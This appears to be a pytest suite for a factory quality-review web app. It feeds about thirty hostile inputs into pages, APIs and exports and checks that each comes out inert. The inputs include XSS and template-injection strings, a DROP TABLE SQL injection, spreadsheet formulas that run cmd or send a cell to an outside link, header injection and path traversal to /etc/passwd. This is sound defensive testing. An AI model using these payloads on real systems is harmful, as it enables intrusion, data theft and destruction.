"""Hostile text in serials, reasons, names and addresses: text or a refusal, and inert wherever it comes out."""

import csv
import io
import json
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from urllib.parse import quote
from uuid import uuid4

import httpx
import pytest
from fastapi import FastAPI

from quality.judgement import Verdict
from review_api.defect_report import FORMULA_STARTS, _harmless
from tests.unit.review_api.conftest import FakeClock, Store, visitor

HOSTILE = {
    "script": "<script>x_hostile()</script>",
    "image": "<x-hostile><img src=x onerror=x_hostile()>",
    "attribute": '" onmouseover="x_hostile()" x="',
    "single quotes": "' onfocus='x_hostile()' autofocus='",
    "end of a tag": "--></title></style></textarea><x-hostile>",
    "svg": "<svg/onload=x_hostile()><x-hostile>",
    "scheme": "javascript:x_hostile()",
    "entity": "&lt;x-hostile&gt;&#60;x-hostile&#62;",
    "template": "{{ 7*7 }}{% x_hostile %}${7*7}#{7*7}",
    "htmx": '<x-hostile hx-get="/sign-out" hx-trigger="load">',
    "sql": "'; DROP TABLE decisions; --",
    "sql wildcard": "%' OR '1'='1",
    "formula": '=HYPERLINK("http://elsewhere/?"&A1,"x")',
    "formula plus": "+cmd|' /C calc'!A0",
    "formula minus": "-2+3+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula wide": "＝1+1",
    "formula tab": "\t=1+1",
    "bidi override": "B\u202e321-000B",
    "bidi isolate": "B\u2067321\u2069",
    "right to left": "جزء-١٢٣",
    "zero width": "B\u200b00\u200d1\ufeff",
    "combining": "B" + "\u0301\u0316" * 40,
    "nul": "B\x001",
    "terminal": "\x1b[31mB\x07\x1b]0;x\x07",
    "header": "B1\r\nSet-Cookie: x=hostile\r\n\r\n<x-hostile>",
    "percent nul": "B%00.png%0d%0aSet-Cookie:%20x=hostile",
    "path": "../../../../etc/passwd",
    "windows path": "..\\..\\windows\\win.ini",
    "surrogate": "B\ud800\udfff1",
    "emoji": "🏭🔧 部品",
    "log": "B1\n2026-11-24 [info] released person=admin",
}
FORM = {"content-type": "application/x-www-form-urlencoded"}
TEN_MEGABYTES = "A" * 10_000_000
UNSTORABLE = ("surrogate",)
"""What no store takes, and no PLC sends."""


class _Seen(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag.startswith("x-"):
            self.faults.append(f"<{tag}> became an element")
        if tag == "script" and not (values.get("src") or "").startswith("/static"):
            self.faults.append(f"a script of its own: {values}")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.faults.append(f"<{tag} {name}={value!r}>")
            if name in {"href", "src", "action", "formaction"} and (value or "").strip().lower().startswith(
                ("javascript:", "data:text", "vbscript:", "//")
            ):
                self.faults.append(f"<{tag} {name}={value!r}>")


def _faults(answer: httpx.Response) -> list[str]:
    """What of an answer is not inert."""
    faults = []
    if answer.status_code >= 500:
        faults.append(f"{answer.status_code}")
    if "x" in answer.cookies or "hostile" in str(answer.headers.get_list("set-cookie")):
        faults.append("it set a cookie")
    if any("\r" in value or "\n" in value for value in answer.headers.values()):
        faults.append("a header with a line break")
    if "root:" in answer.text or "[fonts]" in answer.text:
        faults.append("a file of the machine")
    kind = answer.headers.get("content-type", "").partition(";")[0]
    if kind == "text/html":
        seen = _Seen()
        seen.feed(answer.text)
        faults += seen.faults
    elif kind.endswith("json") and answer.content:
        json.loads(answer.content)
    elif kind == "text/csv":
        faults += [
            f"a formula: {cell!r}"
            for row in csv.reader(io.StringIO(answer.text, newline=""))
            for cell in row
            if cell.startswith(FORMULA_STARTS) and not _is_number(cell)
        ]
    if kind != "text/html" and answer.headers.get("x-content-type-options") != "nosniff":
        faults.append("a browser may guess what it is")
    return faults


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _in_address(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


@pytest.fixture
async def admin(app: FastAPI) -> AsyncIterator[httpx.AsyncClient]:
    async with visitor(app, "admin", "admin-access") as client:
        yield client


def test_there_are_thirty_of_them() -> None:
    assert len(HOSTILE) >= 30


async def test_serials_and_reasons_are_inert_on_every_page_and_in_every_export(
    store: Store, engineer: httpx.AsyncClient
) -> None:
    store.show_line(serial=HOSTILE["script"], part_present=True, cycle_sequence=1)
    taken, refused, faults = [], [], []
    serials = [text for name, text in HOSTILE.items() if name not in UNSTORABLE]
    for serial in serials:
        store.make_part(Verdict.HOLD, serial=serial, with_evidence=True)
    for (name, reason), case in zip(HOSTILE.items(), [*store.cases, None], strict=False):
        if case is None:
            continue
        asked = {"kind": "RELEASE", "reason": reason, "case_id": str(case.id), "case_version": 1}
        body = json.dumps(asked).encode()
        answer = await engineer.put(
            f"/api/v1/decisions/{uuid4()}", content=body, headers={"content-type": "application/json"}
        )
        (taken if answer.status_code == 201 else refused).append(name)
        faults += [f"reason {name}: {fault}" for fault in _faults(answer)]
        if answer.status_code == 201:
            kept = answer.json()["reason"]
            assert not set(kept) & set("\x00\r\n\x1b\u202e\u2067\u200b"), name
    assert set(refused) <= {"nul", "terminal", "surrogate"}
    assert len(taken) >= 27
    pages = ["/line", "/cases", "/cases?state=CLOSED", "/parts", "/alarms", "/handover", "/reports", "/spc", "/me"]
    pages += [f"/cases/{case.id}" for case in store.cases]
    pages += [f"/passages/{number}" for number in range(1, len(serials) + 1)]
    pages += [f"/parts/{_in_address(serial)}" for serial in serials]
    pages += ["/api/v1/cases", "/api/v1/decisions", "/api/v1/inspections", "/api/v1/line"]
    pages += [f"/api/v1/reports/defects?format={kind}" for kind in ("csv", "json")]
    for page in pages:
        answer = await engineer.get(page, headers={"accept": "text/html" if "/api/" not in page else "*/*"})
        faults += [f"{page}: {fault}" for fault in _faults(answer)]
    assert faults == []


async def test_what_is_asked_for_in_an_address_is_inert(engineer: httpx.AsyncClient, store: Store) -> None:
    store.make_part(Verdict.HOLD, with_evidence=True)
    store.show_line()
    places = (
        "/parts?serial={}",
        "/parts/{}",
        "/cases?state={}",
        "/sign-in?next={}",
        "/sign-in?who={}",
        "/spc?characteristic={}",
        "/alarms/history?kind={}",
        "/plans/{}",
        "/api/v1/parts?serial={}",
        "/api/v1/inspections?serial={}",
        "/api/v1/inspections?cursor={}",
        "/api/v1/measurements?characteristic={}",
        "/api/v1/history/{}",
        "/api/v1/spc/{}",
        "/api/v1/alarms/history?source={}",
        "/api/v1/plans/{}",
        "/api/v1/shifts/{}",
        "/api/v1/cases/{}",
        "/api/v1/reports/defects?format={}",
        "/pictures/live/{}",
        "/pictures/{}",
        "/pictures/map/1/{}.png",
        "/static/{}",
        "/{}",
    )
    faults = []
    for name, text in HOSTILE.items():
        for place in places:
            answer = await engineer.get(place.format(_in_address(text)), headers={"accept": "text/html"})
            faults += [f"{place} {name}: {fault}" for fault in _faults(answer)]
            location = answer.headers.get("location", "/")
            if not location.startswith("/") or location.startswith("//"):
                faults.append(f"{place} {name}: leads to {location}")
    assert faults == []


async def test_names_are_inert_where_access_is_given(
    app: FastAPI, admin: httpx.AsyncClient, anyone: httpx.AsyncClient, clock: FakeClock
) -> None:
    faults = []
    for name, text in HOSTILE.items():
        for path, asked in (
            (
                "/api/v1/accounts",
                {"name": text[:90], "role": "engineer", "display_name": text[:90], "badge": text[:90]},
            ),
            ("/api/v1/tokens", {"title": text[:90]}),
        ):
            body = json.dumps(asked).encode()
            answer = await admin.post(path, content=body, headers={"content-type": "application/json"})
            faults += [f"{path} {name}: {fault}" for fault in _faults(answer)]
        answer = await anyone.post(
            "/sign-in", content=f"name={_in_address(text)}&password=x".encode(), headers=FORM
        )
        faults += [f"/sign-in {name}: {fault}" for fault in _faults(answer)]
    for page in ("/admin", "/admin/tokens", "/admin/devices", "/api/v1/accounts", "/api/v1/tokens", "/line"):
        answer = await admin.get(page, headers={"accept": "text/html"})
        faults += [f"{page}: {fault}" for fault in _faults(answer)]
    clock.advance(3601)
    # A device that somebody has signed in on shows the names to choose from.
    async with visitor(app, "engineer") as tablet:
        faults += [f"/sign-in: {fault}" for fault in _faults(await tablet.get("/sign-in"))]
    assert faults == []


@pytest.mark.parametrize("declared", [True, False])
async def test_ten_megabytes_are_refused_unread(engineer: httpx.AsyncClient, *, declared: bool) -> None:
    body = json.dumps({"kind": "STOP_LINE", "reason": TEN_MEGABYTES}).encode()
    read = 0

    async def in_pieces() -> AsyncIterator[bytes]:
        nonlocal read
        for at in range(0, len(body), 65536):
            read += 1
            yield body[at : at + 65536]

    answer = await engineer.put(
        f"/api/v1/decisions/{uuid4()}",
        content=body if declared else in_pieces(),
        headers={"content-type": "application/json"},
    )
    assert (answer.status_code, answer.json()["code"]) == (413, "TOO_LARGE")
    assert read <= 3


def test_a_cell_that_a_spreadsheet_would_run_is_made_text() -> None:
    for name, text in HOSTILE.items():
        if name.startswith("formula"):
            assert str(_harmless(text)).startswith("'"), name
    assert _harmless(-0.5) == -0.5
